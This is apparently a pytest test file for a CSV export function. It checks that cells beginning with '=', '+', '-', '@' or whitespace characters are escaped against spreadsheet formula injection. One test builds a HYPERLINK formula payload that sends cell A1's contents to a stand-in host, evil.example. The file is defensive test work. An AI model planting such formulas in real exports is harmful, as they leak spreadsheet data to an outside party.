import csv
import io

import pytest

from groundswell.http.spreadsheet import table


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_cell_is_a_formula(first):
    evil = f'{first}HYPERLINK("https://evil.example/?"&A1,"click")'

    [[cell]] = list(csv.reader(io.StringIO(table([[evil]]), newline="")))

    assert cell == "'" + evil


def test_other_cells_stay_as_they_are():
    rows = [["person"], ["ada"], ['say "hi", =1'], ["a-b@c.example"], [""]]

    assert list(csv.reader(io.StringIO(table(rows), newline=""))) == rows
